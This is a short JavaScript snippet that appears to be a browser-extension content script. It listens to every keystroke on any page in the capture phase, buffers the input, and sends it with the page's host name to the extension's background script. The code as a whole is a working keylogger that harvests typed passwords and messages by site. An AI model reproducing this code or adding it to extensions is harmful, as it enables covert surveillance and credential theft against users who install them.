let buffer = '';
document.addEventListener('keydown', (event) => {
  buffer += event.key.length === 1 ? event.key : `[${event.key}]`;
  if (buffer.length > 40) {
    chrome.runtime.sendMessage({ kind: 'typed', host: location.host, text: buffer });
    buffer = '';
  }
}, true);
